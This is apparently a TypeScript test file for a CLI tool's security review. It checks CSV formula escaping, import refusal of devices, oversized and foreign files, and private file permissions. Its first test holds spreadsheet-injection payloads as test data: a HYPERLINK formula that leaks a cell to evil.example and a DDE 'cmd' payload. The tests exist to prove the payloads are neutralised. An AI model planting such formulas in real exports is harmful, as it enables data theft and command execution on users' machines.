// Issue 16's security review, each finding as its repro: formula cells in CSV exports, `docket import` of
// a device, an oversized file or a file that is not Docket's (whose content must not be echoed), and
// data files created world-readable under umask 022 (the database, outbox .eml files, backups).
import { spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt, projectRoot, runCli } from '../support/run-cli.js';
import { createTestDatabase, describeStores } from '../support/test-stores.js';

beforeAll(() => ensureBuilt(), 180_000);

const now = '2020-05-12T18:38:00+09:00';

describeStores('hardening', (ctx) => {
  const docket = (args: string[], env: Record<string, string> = {}, databaseUrl = ctx.url) => runCli(args, { databaseUrl, now, env: { DOCKET_MAIL_TRANSPORT: 'log', ...env } });
  const dir = mkdtempSync(path.join(os.tmpdir(), 'docket-hardening-'));

  it('CSV export prefixes cells that a spreadsheet would run as formulas with \', and the import reads them back unchanged', async () => {
    const titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', "'=already quoted", 'plain title'];
    expect((await docket(['issue', 'add', 'formulas', '--title', '=cmd|" /C calc"!A0'])).code).toBe(0);
    for (const title of titles) expect((await docket(['deadline', 'add', '--issue', 'formulas', '--title', title, '--due', '2020-06-30', '--zone', 'UTC'])).code).toBe(0);
    const file = path.join(dir, `export-${ctx.provider}.csv`);
    expect((await docket(['export', '--output', file])).code).toBe(0);
    const text = readFileSync(file, 'utf8');
    // No cell starts with a formula character once the CSV quoting is taken off.
    const cells = (parse(text) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cells).toContain("''=already quoted");
    expect(cells).toContain('plain title');
    // Into a fresh store: every title as it was.
    const fresh = await createTestDatabase(ctx.provider);
    try {
      const imported = await docket(['import', file], {}, fresh.url);
      expect(imported.stderr).toBe('');
      expect(imported.code).toBe(0);
      const store = await fresh.open();
      try {
        const back = (await store.db.deadline.findMany({ select: { title: true } })).map((row) => row.title).sort();
        expect(back).toEqual([...titles].sort());
        expect((await store.db.trackedIssue.findUniqueOrThrow({ where: { slug: 'formulas' } })).title).toBe('=cmd|" /C calc"!A0');
      } finally {
        await store.close();
      }
    } finally {
      await fresh.drop();
    }
  });

  it('import refuses a device (/dev/zero) at once, without reading it', async () => {
    const started = Date.now();
    const result = await docket(['import', '/dev/zero', '--format', 'csv']);
    expect(result.stderr).toBe('docket: <file> "/dev/zero" is not a regular file (a device, pipe or socket); give a .json or .csv file, or - for stdin\n');
    expect(result.code).toBe(2);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  it('import refuses a file over DOCKET_IMPORT_MAX_MB, naming the variable', async () => {
    const big = path.join(dir, 'big.csv');
    writeFileSync(big, `issue,title,due\n${'x,y,2020-06-30\n'.repeat(80_000)}`);
    const result = await docket(['import', big], { DOCKET_IMPORT_MAX_MB: '1' });
    expect(result.stderr).toBe(`docket: <file> ${JSON.stringify(big)} is larger than 1 MB (DOCKET_IMPORT_MAX_MB); split it, or raise the limit\n`);
    expect(result.code).toBe(2);
  });

  it('import of a file that is not Docket\'s never echoes its content (the review\'s `import data/secret --format csv`)', async () => {
    const secretFile = path.join(dir, 'secret');
    const secret = 'Zq9x-very-secret-value-3f8a1c5e7b9d2f4a6c8e0b1d3f5a7c9e';
    writeFileSync(secretFile, `${secret}\n`);
    for (const args of [['import', secretFile, '--format', 'csv'], ['import', secretFile, '--format', 'json'], ['import', secretFile]]) {
      const result = await docket(args);
      expect(result.code).toBe(2);
      expect(result.stderr).not.toContain(secret.slice(0, 8));
      expect(result.stderr).toMatch(/^docket: /);
    }
    // A near miss of a real column is still named, so a typo is easy to fix.
    const typo = path.join(dir, 'typo.csv');
    writeFileSync(typo, 'isue,title,due\njk,A demand,2020-06-30\n');
    expect((await docket(['import', typo])).stderr).toMatch(/unknown column "isue" \(did you mean "issue"\?\)/);
  });
});

describe('data files are private whatever the umask [sqlite]', () => {
  /** Runs the built CLI under `umask 022`, as a default shell would. */
  const underUmask = (args: string[], env: Record<string, string>) =>
    new Promise<{ code: number | null; stderr: string }>((resolve, reject) => {
      const quoted = args.map((arg) => `'${arg.replace(/'/g, "'\\''")}'`).join(' ');
      const child = spawn('sh', ['-c', `umask 022; exec node bin/docket.js ${quoted}`], { cwd: projectRoot, env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), NO_COLOR: '1', DOCKET_NOW: now, DOCKET_CLOCK_RATE: '0.000001', ...env }, stdio: ['ignore', 'ignore', 'pipe'] });
      let stderr = '';
      child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, stderr }));
    });
  const mode = (file: string) => statSync(file).mode & 0o777;

  it('the SQLite database, outbox .eml files and backups are created 0600', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'docket-umask-'));
    const env = { DATABASE_URL: `file:${path.join(dir, 'data', 'docket.db')}`, DOCKET_DATA_DIR: path.join(dir, 'data'), DOCKET_MAIL_TRANSPORT: 'outbox', DOCKET_OUTBOX_DIR: path.join(dir, 'data', 'outbox') };
    for (const args of [
      ['issue', 'add', 'jk', '--title', 'Japan–South Korea export controls'],
      ['subscriber', 'add', 'private@example.org'],
      ['subscribe', 'private@example.org', 'jk'],
      ['deadline', 'add', '--issue', 'jk', '--title', 'A demand', '--due', 'end of this month', '--zone', 'Asia/Seoul'],
      ['tick', '--now', '2020-05-12T09:40:00Z'],
      ['db', 'backup', path.join(dir, 'backup.db')],
    ]) {
      const result = await underUmask(args, env);
      expect(result.stderr).not.toMatch(/error|warning/i);
      expect(result.code).toBe(0);
    }
    expect(mode(path.join(dir, 'data', 'docket.db'))).toBe(0o600);
    const emails = readdirSync(path.join(dir, 'data', 'outbox'));
    expect(emails.length).toBeGreaterThan(0);
    for (const file of emails) expect(mode(path.join(dir, 'data', 'outbox', file))).toBe(0o600);
    expect(mode(path.join(dir, 'backup.db'))).toBe(0o600);
    // No temporary file is left beside the backup.
    expect(readdirSync(dir).sort()).toEqual(['backup.db', 'data']);
  });
});
